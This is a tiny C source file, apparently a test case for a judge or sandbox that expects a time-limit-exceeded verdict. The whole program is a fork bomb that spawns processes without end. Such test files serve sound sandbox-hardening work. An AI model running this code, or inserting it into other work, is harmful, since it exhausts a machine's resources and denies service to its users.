// verdict: TLE
// Doubles for ever.
#include <unistd.h>
int main(void) { for (;;) fork(); }
